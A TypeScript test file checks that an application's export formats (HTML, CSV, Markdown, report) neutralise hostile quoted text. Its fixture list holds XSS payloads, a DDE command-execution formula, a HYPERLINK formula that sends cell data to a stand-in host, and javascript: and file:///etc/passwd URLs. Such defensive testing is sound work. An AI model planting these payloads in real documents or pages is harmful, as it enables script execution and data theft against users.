/** What a page may hold, through every format: nothing of it turns into markup, a formula, another record, or a failure. */
import { parse } from "csv-parse/sync";
import { parseHTML } from "linkedom";
import markdownIt from "markdown-it";
import footnote from "markdown-it-footnote";
import { describe, expect, test } from "vitest";
import { english } from "../english";
import type { Trace } from "../trace";
import { formats } from ".";
import { invented } from "./invented";
import { inventedFollowed } from "./invented-followed";
import { saying } from "./invented-saying";

const render = (id: string, trace: Trace) => formats[id]?.render(trace, english) ?? "";
const flat = (text: string) => text.replace(/\s+/g, " ").trim();

const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '"><b onclick="alert(1)">',
  "</blockquote></article></style><h1>Other</h1>",
  "&lt;b&gt; &amp; R&D",
  "' onmouseover='alert(1)",
  "<!-- comment",
  "]]></title><script>",
  "two\r\nlines\n\nand a paragraph",
  '=HYPERLINK("https://trap.example/?"&A1,"x")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-1",
  "@SUM(1)",
  "\t=1",
  "\u200B\u202E=1",
  "＝1",
  '"quoted", "comma", "semi;colon"',
  "\u202Eright to left\u202C and \u2067back\u2069",
  "half a sign \uD83D here \uDE00",
  "\u0000\u0007 control",
  "}, title = {Other}, { \\input{x} % $1 #2 a_b ^c ~d \\",
  "TY  - JOUR\r\nER  - \r\nTY  - BOOK",
  "*bold* _it_ `code` ~~gone~~",
  "[click](https://trap.example) ![x](https://trap.example/x.png) <https://trap.example>",
  "[^1]: https://trap.example\n\n[click]: https://trap.example",
  "# heading\n\n- item\n\n1. item\n\n> quote\n\n---\n\n    code",
  "a | b\n--|--",
  "لن نبيع الميناء، قالت سلمى",
  "港は「売却されない」と市長",
  "$& $1 $$",
];

describe.each(Object.keys(formats))("%s", (id) => {
  test.each(HOSTILE)("of %j is written, and says when, from where and by what", (words) => {
    const text = render(id, saying(words));
    expect(text).toMatch(/\n$/);
    expect(text).toMatch(/4 May 2031|2031-05-04T09:30:15Z/);
    expect(text).toMatch(/Headwater 9\.8\.7|"version": "9\.8\.7"/);
    expect(text.replaceAll("\\&", "&").replaceAll("&amp;", "&")).toContain(
      "https://bay-news.example/harbour?a=1&b=2",
    );
  });

  test.each([
    ["nothing", { ...invented, sources: [], attributions: [] }],
    ["no text", { ...invented, article: { ...invented.article, text: "" }, sources: [], attributions: [] }],
    ["no address", { ...invented, article: { ...invented.article, url: null, canonicalUrl: null } }],
    ["half a day", { ...invented, article: { ...invented.article, published: "2031-05" } }],
    ["no day", { ...invented, article: { ...invented.article, published: "soon" } }],
  ])("of %s is written", (_, trace) => {
    expect(render(id, trace)).not.toMatch(/undefined|NaN|Invalid|\[object/);
  });

  test.each(["javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "not an address"])(
    "has no link to %s",
    (url) => {
      const text = render(id, saying("words", url));
      if (id !== "json")
        expect(text).not.toMatch(new RegExp(`(?:href="|<|url = {|UR {2}- |"URL": "|,")${url}`, "i"));
    },
  );

  test("of five hundred statements is written in time", () => {
    const many = Array.from({ length: 500 }, (_, at) => ({
      ...(inventedFollowed.attributions[at % 4] as Trace["attributions"][number]),
      id: `a${at + 1}`,
    }));
    expect(render(id, { ...inventedFollowed, attributions: many }).length).toBeGreaterThan(1000);
  });
});

test.each(HOSTILE)("in a table, %j is one cell, and no formula", (words) => {
  const [header, row, ...more] = parse(render("csv", saying(words)), { bom: true }) as string[][];
  expect(more).toEqual([]);
  const cells = new Map(header?.map((name, at) => [name, row?.[at]]));
  // UTF-8 has no half characters.
  const kept = flat(words).replace(/\p{Cs}/gu, "\uFFFD");
  for (const name of ["words", "speaker", "article_title"])
    expect([kept, `'${kept}`]).toContain(cells.get(name));
  for (const cell of row ?? []) expect(cell).not.toMatch(/^[\s\p{C}]*[=+\-@＝＋－＠]/u);
});

test.each(["html", "report"])("%s holds no markup of the page", (id) => {
  for (const words of HOSTILE) {
    const html = render(id, saying(words));
    const { document } = parseHTML(id === "html" ? `<!doctype html><body>${html}</body>` : html);
    expect(flat(document.querySelector("h1")?.textContent ?? "")).toBe(flat(words));
    expect(flat(document.querySelector("blockquote")?.textContent ?? "")).toBe(flat(words));
    expect(document.querySelectorAll("script, img, b, iframe, link, base, h1 + h1").length).toBe(0);
    expect(document.querySelectorAll("h1").length).toBe(1);
    const names = [...document.querySelectorAll("*")].flatMap((element) => element.getAttributeNames());
    expect(names.filter((name) => name.startsWith("on"))).toEqual([]);
    for (const link of document.querySelectorAll("a"))
      expect(link.getAttribute("href")).toMatch(/^(?:https?:\/\/|#)/);
  }
});

describe("Markdown, as it is read by CommonMark with footnotes", () => {
  const reader = markdownIt({ html: true }).use(footnote);

  test.each(HOSTILE)("%j stays words", (words) => {
    const { document } = parseHTML(`<body>${reader.render(render("markdown", saying(words)))}</body>`);
    const said = (selector: string) => flat(document.querySelector(selector)?.textContent ?? "");
    const shown = flat(words).replaceAll("\u0000", "\uFFFD");
    expect(said("h1")).toBe(shown);
    expect(said("blockquote").replace(/\s*\[1(?::\d)?\]$/, "")).toBe(shown);
    expect(document.querySelectorAll("script, img, b, em, code, s, h1 h1, table, pre").length).toBe(0);
    const links = [...document.querySelectorAll("a")].map((link) => link.getAttribute("href") ?? "");
    expect(links.filter((href) => !/^#|^https:\/\/(?:courier|bay-news)\.example\//.test(href))).toEqual([]);
  });

  test("its notes lead to the originals, each once, at the quoted words", () => {
    const { document } = parseHTML(`<body>${reader.render(render("markdown", invented))}</body>`);
    const notes = [...document.querySelectorAll(".footnote-item a:not(.footnote-backref)")];
    expect(notes.map((link) => link.getAttribute("href"))).toEqual([
      "https://courier.example/mayor#top:~:text=The%20harbour%20will%20not%20be%20sold",
      "https://courier.example/price#:~:text=far%20too%20low",
    ]);
    expect(document.querySelectorAll("blockquote .footnote-ref").length).toBe(2);
  });

  test("an address cannot end early", () => {
    const text = render("markdown", saying("words", "https://courier.example/a_(b) <c>"));
    expect(reader.render(text)).toContain('href="https://courier.example/a_%28b%29%20%3cc%3e');
  });
});

test("a report lets nothing load or run", () => {
  const { document } = parseHTML(render("report", saying("words")));
  const policy = document.querySelector("meta[http-equiv=Content-Security-Policy]")?.getAttribute("content");
  expect(policy).toContain("default-src 'none'");
  expect(document.querySelectorAll("[src], script, link").length).toBe(0);
  expect(document.querySelector("style")?.textContent).not.toMatch(/@import|url\(/);
  expect(document.documentElement.getAttribute("lang")).toBe("en");
});
